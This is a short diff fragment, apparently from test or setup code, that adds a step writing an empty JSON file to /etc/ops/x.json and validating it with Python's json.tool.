+            ...heredocFile("/etc/ops/x.json", ["{}"]),
+            "cd /var/lib/ops && python3 -m json.tool /etc/ops/x.json",
         ]),
     ),
 ];
